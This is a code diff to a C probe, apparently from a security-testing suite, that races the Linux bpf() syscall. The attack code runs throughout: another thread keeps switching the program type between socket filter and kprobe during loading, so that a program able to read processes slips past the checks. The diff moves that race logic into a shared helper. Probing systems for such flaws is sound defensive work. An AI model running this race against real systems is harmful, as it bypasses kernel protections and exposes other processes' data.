@@ -2,42 +2,19 @@
 // Load a program of BPF that may read processes, shown to whoever looks at the call's arguments as one that may not: another
 // thread changes its type all the while.
 #include <errno.h>
-#include <pthread.h>
-#include <sched.h>
-#include <stdatomic.h>
-#include <stdio.h>
 #include <sys/resource.h>
-#include <time.h>
 
 #include "insn.h"
+#include "race.h"
 #include "row.h"
 
-#define TRIES 300
-#define LONG_ENOUGH 20 // seconds; the other thread may not run for a while
-#define HOLD 8
-
 static union bpf_attr attr;
-static atomic_bool over;
 
-// On a processor of its own, where there are two.
-static void stay_on(int processor)
+// Seen by other processors.
+static void show(bool harmless)
 {
-    cpu_set_t set;
-    CPU_ZERO(&set);
-    CPU_SET(processor, &set);
-    (void)sched_setaffinity(0, sizeof(set), &set);
-}
-
-static void *change(void *context)
-{
-    stay_on(1);
-    // Each for as long as the other, and seen by other processors.
-    for (unsigned i = 0; !atomic_load_explicit(&over, memory_order_relaxed); i++) {
-        __atomic_store_n(&attr.prog_type,
-                         i % HOLD < HOLD / 2 ? BPF_PROG_TYPE_SOCKET_FILTER : BPF_PROG_TYPE_KPROBE,
-                         __ATOMIC_SEQ_CST);
-    }
-    return context;
+    __atomic_store_n(&attr.prog_type, harmless ? BPF_PROG_TYPE_SOCKET_FILTER : BPF_PROG_TYPE_KPROBE,
+                     __ATOMIC_SEQ_CST);
 }
 
 static bool may_read(long program)
@@ -55,20 +32,16 @@ enum row_result row_attack(const struct row_victim *victim)
     enum row_result result = ROW_ABSENT;
     // Before 5.11 programs count against it, also for a while after they are closed; more are refused by EPERM.
     const struct rlimit any = {RLIM_INFINITY, RLIM_INFINITY};
-    pthread_t thread;
     (void)victim;
     (void)setrlimit(RLIMIT_MEMLOCK, &any);
     attr = (union bpf_attr){.prog_type = BPF_PROG_TYPE_SOCKET_FILTER,
                             .insns = (unsigned long)program,
                             .insn_cnt = sizeof(program) / sizeof(program[0]),
                             .license = (unsigned long)"GPL"};
-    if (pthread_create(&thread, NULL, change, NULL) != 0) {
+    if (!row_race_begin(show)) {
         return ROW_ABSENT;
     }
-    stay_on(0);
-    const time_t end = time(NULL) + LONG_ENOUGH;
-    for (int i = 0;
-         result != ROW_LEAKED && (i < TRIES || (result == ROW_ABSENT && time(NULL) < end)); i++) {
+    for (int i = 0; result != ROW_LEAKED && row_race_goes_on(i, result != ROW_ABSENT); i++) {
         long loaded = row_bpf(BPF_PROG_LOAD, &attr);
         if (loaded >= 0) {
             result = may_read(loaded) ? ROW_LEAKED : result;
@@ -77,7 +50,6 @@ enum row_result row_attack(const struct row_victim *victim)
             result = ROW_REFUSED;
         }
     }
-    atomic_store(&over, true);
-    pthread_join(thread, NULL);
+    row_race_end();
     return result;
 }
